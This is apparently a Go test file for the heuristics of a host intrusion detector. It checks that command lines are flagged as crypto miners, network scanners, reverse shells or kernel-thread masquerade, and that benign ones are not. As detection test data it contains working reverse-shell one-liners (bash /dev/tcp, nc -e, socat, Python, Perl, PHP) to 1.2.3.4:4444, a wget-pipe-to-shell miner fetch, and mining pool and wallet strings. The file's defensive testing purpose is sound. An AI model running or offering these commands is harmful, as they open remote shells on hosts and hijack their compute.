package procjudge

import (
	"strings"
	"testing"
)

// Test command lines write words of vigil's own rule pack split by '~'
// (see unveil), so the test binary does not match them either.

// argv splits a shell-free command line on spaces; a quoted script is given
// as one element with '|'.
func argv(s string) []string {
	if a, b, ok := strings.Cut(s, " |"); ok {
		return append(strings.Fields(a), b)
	}
	return strings.Fields(s)
}

const wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

func TestHeuristicsCommandLines(t *testing.T) {
	tests := []struct {
		cmd  string
		want string // virus name, "" for nothing
	}{
		// miners
		{"/dev/shm/x --do~nate-level 1 -o st~ratum+tcp://pool.example:3333 -u wallet", MinerCmdLine},
		{"./kworker -o st~ratum+ssl://gulf.mo~neroocean.stream:20128 -u x", MinerCmdLine},
		{"/usr/bin/httpd --do~nate-level=0 -c cfg.json", MinerCmdLine},
		{"xm~rig", MinerCmdLine},
		{"/opt/x/xm~rig -c /opt/x/config.json", MinerCmdLine},
		{"./a -o 1.2.3.4:3333 -u " + wallet + " -p x", MinerCmdLine},
		{"./a --url=xmr.ha~shvault.pro:443 --user=abc", MinerCmdLine},
		{"./a -o 10.0.0.5:3333 -u worker1 -a rx~/0", MinerCmdLine},
		{"sh |wget -q http://x/m -O- | sh; ./m -o st~ratum+tcp://p:1 -u w", MinerCmdLine},
		// scanners
		{"./dev -h 10.1.2.1/24 -m ssh -nopoc -t 200 -o ssh.txt", IntranetScanner},
		{"/tmp/fscan -h 192.168.0.1/16", IntranetScanner},
		{"masscan 10.0.0.0/8 -p1-65535 --rate 100000", IntranetScanner},
		{"nmap -sS -p 22,80,443 172.16.0.0/12", IntranetScanner},
		{"nmap 192.168.1.0/24", IntranetScanner},
		{"./s -h 10.0.0.1-254 -np", IntranetScanner},
		{"./scan 10.0.0.0/24,10.0.1.0/24 -p 445", IntranetScanner},
		// reverse shells
		{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", ReverseShell},
		{"bash -c |bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", ReverseShell},
		{"sh -c |sh -i > /dev/tcp/1.2.3.4/4444 0>&1", ReverseShell},
		{"bash -c |exec 5<>/dev/tcp/1.2.3.4/80; sh <&5 >&5 2>&5", ReverseShell},
		{"nc -e /bin/sh 1.2.3.4 4444", ReverseShell},
		{"nc 1.2.3.4 4444 -e /bin/bash", ReverseShell},
		{"ncat --sh-exec /bin/sh 1.2.3.4 4444", ReverseShell},
		{"nc.traditional -nve /bin/sh 1.2.3.4 4444", ReverseShell},
		{"busybox nc 1.2.3.4 4444 -e sh", ReverseShell},
		{"socat exec:'bash -li',pty,stderr tcp:1.2.3.4:4444", ReverseShell},
		{"python3 -c |import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", ReverseShell},
		{"perl -e |use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('1.2.3.4')));open(STDIN,'>&S');exec('/bin/sh -i');", ReverseShell},
		{"php -r |$sock=fs~ockopen('1.2.3.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');", ReverseShell},
		// kernel thread masquerade
		{"[kworker/0:1]", KernelThreadMasquerade},
		{"[migration/3] -o 1.2.3.4:1", KernelThreadMasquerade},

		// ordinary command lines: nothing
		{"ssh -p 22 host", ""},
		{"ssh -o StrictHostKeyChecking=no -p 2222 root@10.0.0.5", ""},
		{"nmap --version", ""},
		{"nmap -p 22 10.0.0.5", ""},
		{"python3 -m http.server 8000", ""},
		{"python3 -c |import socket; print(socket.gethostname())", ""},
		{"curl https://example.com/install.sh -o install.sh", ""},
		{"curl -u user:pass -o out.tar.gz https://pool.example.com:8443/file", ""},
		{"go build -o /tmp/x ./cmd/vigil", ""},
		{"go test -run TestX -count=1 ./...", ""},
		{"ip addr add 10.0.0.5/24 dev eth0", ""},
		{"ip route add 10.0.0.0/8 via 10.1.1.1", ""},
		{"iptables -A INPUT -s 10.0.0.0/8 -p tcp -m tcp --dport 22 -j ACCEPT", ""},
		{"iptables -A INPUT -s 10.0.0.0/8 -m ssh -p 22 -j ACCEPT", ""},
		{"docker network create --subnet 172.20.0.0/16 -o x=y net1", ""},
		{"kubelet --pod-cidr=10.244.0.0/24 -v 2", ""},
		{"bash -c |timeout 1 bash -c '</dev/tcp/127.0.0.1/6379'", ""},
		{"bash -c |echo > /dev/tcp/localhost/8080", ""},
		{"bash -c |exec 3<>/dev/tcp/localhost/6379; echo PING >&3; cat <&3", ""},
		{"nc -z -v 10.0.0.5 22", ""},
		{"nc -l 8080", ""},
		{"socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", ""},
		{"bash -i", ""},
		{"make -j4 -C build", ""},
		{"node server.js -p 3000", ""},
		{"postgres: checkpointer", ""},
		{"nginx: worker process", ""},
		{"/usr/sbin/sshd -D", ""},
		{"grep -r st~ratum src/", ""},
		{"vim miner.go", ""},
		{"xm~rig --version", ""},
		{"git commit -m ssh", ""},
		{"rsync -av 10.0.0.0/24 /backup -p", ""},
		{"java -Xmx2g -jar app.jar -o 10.0.0.1:9092 -u admin", ""},
	}
	h := heuristics{tmpExempt: DefaultTmpExemptions}
	for _, tt := range tests {
		a := argv(unveil(tt.cmd))
		f := Facts{PID: 4242, PPID: 1, Name: "x", Exe: "/usr/bin/x", Argv: a}
		hits := h.check(&f)
		var got []string
		for _, hit := range hits {
			got = append(got, hit.VirusName)
		}
		switch {
		case tt.want == "" && len(hits) > 0:
			t.Errorf("%q: false positive %v (%v)", tt.cmd, got, hits)
		case tt.want != "" && (len(hits) == 0 || !contains(got, tt.want)):
			t.Errorf("%q: got %v, want %s", tt.cmd, got, tt.want)
		}
	}
}

func contains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func TestHeuristicsProcessFacts(t *testing.T) {
	tests := []struct {
		name string
		f    Facts
		want string
	}{
		{"exe in /dev/shm", Facts{Exe: "/dev/shm/.x", Argv: []string{"x"}}, ExecFromTmp},
		{"exe in /tmp", Facts{Exe: "/tmp/kdev", Argv: []string{"kdev"}}, ExecFromTmp},
		{"exe in /var/tmp", Facts{Exe: "/var/tmp/.ICE/a", Argv: []string{"a"}}, ExecFromTmp},
		{"exe in /var/tmp root", Facts{Exe: "/var/tmp/a", Argv: []string{"a"}}, ExecFromTmp},
		{"hidden exe in /tmp subdir", Facts{Exe: "/tmp/x/.a", Argv: []string{"a"}}, ExecFromTmp},
		{"exe deep in /dev/shm", Facts{Exe: "/dev/shm/a/b/c", Argv: []string{"c"}}, ExecFromTmp},
		{"build tree under /tmp", Facts{Exe: "/tmp/ib1/mkimage", Argv: []string{"mkimage"}}, ""},
		{"exe in /tmp via ..", Facts{Exe: "/usr/../tmp/a", Argv: []string{"a"}}, ExecFromTmp},
		{"go test binary", Facts{Exe: "/tmp/go-build123/b001/proc.test", Argv: []string{"proc.test"}}, ""},
		{"tmux in /usr", Facts{Exe: "/usr/bin/tmux", Argv: []string{"tmux"}}, ""},
		{"/tmpfoo is not /tmp", Facts{Exe: "/tmpfoo/a", Argv: []string{"a"}}, ""},
		{"deleted exe", Facts{Exe: "/usr/local/bin/agent", ExeDeleted: true, Argv: []string{"agent"}}, DeletedExe},
		{"upgraded exe", Facts{Exe: "/usr/sbin/sshd", ExeDeleted: true, ExeReplaced: true, Argv: []string{"sshd"}}, ""},
		{"unsealed memfd", Facts{Exe: "/memfd: ", ExeDeleted: true, ExeMemfd: true, Argv: []string{"x"}}, DeletedExe},
		{"sealed memfd (runc)", Facts{Exe: "/memfd:runc_cloned:/proc/self/exe", ExeDeleted: true, ExeMemfd: true, ExeSealed: true, Argv: []string{"runc", "init"}}, ""},
		{"real kernel thread", Facts{PID: 11, PPID: 2, Name: "kworker/0:1", Kernel: true}, ""},
		{"kthreadd", Facts{PID: 2, PPID: 0, Name: "kthreadd", Kernel: true}, ""},
		{"bracketed user process", Facts{PID: 900, PPID: 1, Name: "x", Exe: "/usr/bin/x", Argv: []string{"[kworker/0:1]"}}, KernelThreadMasquerade},
		{"kthread name user process", Facts{PID: 900, PPID: 1, Name: "kworker/0:0", Exe: "/usr/lib/x", Argv: []string{"/usr/lib/x"}}, KernelThreadMasquerade},
		{"kinsing's kd~evtmpfsi", Facts{PID: 900, PPID: 1, Name: "kd~evtmpfsi", Exe: "/usr/lib/kd~evtmpfsi", Argv: []string{"/usr/lib/kd~evtmpfsi"}}, KernelThreadMasquerade},
		{"bracket unknown exe, ppid 1", Facts{PID: 900, PPID: 1, Name: "x", Argv: []string{"[ksoftirqd/0]"}}, KernelThreadMasquerade},
		{"zombie", Facts{PID: 900, PPID: 1, Name: "defunct", Zombie: true}, ""},
		{"shell with tcp stdio", Facts{Name: "bash", Exe: "/usr/bin/bash", Argv: []string{"bash"}, StdioTCP: true}, ReverseShell},
		{"sh via nc -e", Facts{Name: "sh", Exe: "/usr/bin/dash", Argv: []string{"/bin/sh"}, StdioTCP: true}, ReverseShell},
		{"shell without sockets", Facts{Name: "bash", Exe: "/usr/bin/bash", Argv: []string{"bash", "-i"}}, ""},
		{"server with tcp stdio", Facts{Name: "inetd-svc", Exe: "/usr/sbin/in.tftpd", Argv: []string{"in.tftpd"}, StdioTCP: true}, ""},
	}
	h := heuristics{tmpExempt: DefaultTmpExemptions}
	for _, tt := range tests {
		tt.f.Name, tt.f.Exe = unveil(tt.f.Name), unveil(tt.f.Exe)
		tt.f.Argv = words(tt.f.Argv...)
		hits := h.check(&tt.f)
		var got []string
		for _, hit := range hits {
			got = append(got, hit.VirusName)
		}
		if tt.want == "" && len(hits) > 0 || tt.want != "" && !contains(got, tt.want) {
			t.Errorf("%s: got %v, want %q", tt.name, hits, tt.want)
		}
	}
}

func TestCatalog(t *testing.T) {
	seen := map[string]bool{}
	for _, th := range Threats() {
		if seen[th.Name] {
			t.Errorf("%s twice", th.Name)
		}
		seen[th.Name] = true
		if th.Desc.ZH == "" || th.Desc.EN == "" || th.Solution.ZH == "" || th.Solution.EN == "" || len(th.Tags) == 0 || th.ReferenceLink == "" {
			t.Errorf("%s: incomplete catalog entry %+v", th.Name, th)
		}
	}
	for _, n := range []string{ExecFromTmp, DeletedExe, KernelThreadMasquerade, MinerCmdLine, IntranetScanner, ReverseShell} {
		if !seen[n] {
			t.Errorf("%s missing from the catalog", n)
		}
	}
}
